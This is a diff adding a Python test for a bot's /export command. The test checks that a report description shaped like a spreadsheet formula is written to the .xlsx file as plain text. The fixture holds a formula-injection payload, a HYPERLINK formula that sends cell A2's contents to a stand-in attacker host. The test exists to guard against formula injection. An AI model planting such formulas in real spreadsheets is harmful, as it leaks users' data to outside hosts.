@@ -69,3 +69,14 @@ async def test_export_over_telegram_sends_a_document(core: Core, db: Database, c
         assert document.params["document"]["filename"].endswith(".xlsx")
         assert document.params["caption"] == "1 report · cluster 2"
         assert tg.stub.violations == []
+
+
+async def test_text_that_looks_like_a_formula_stays_text(core: Core, db: Database, clock: Clock) -> None:
+    await report(db, clock, "LCA-DBP-CKQT-LAO-CAI", day=clock().date(),
+                 description='=HYPERLINK("http://evil.example/"&A2,"click")')
+    coordinator = await person(core, db, clock, "coord", "coordinator", cluster=2)
+    await coordinator.send("/export week")
+    [xlsx] = coordinator.files
+    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
+    assert cells and all(c.data_type == "s" for c in cells)
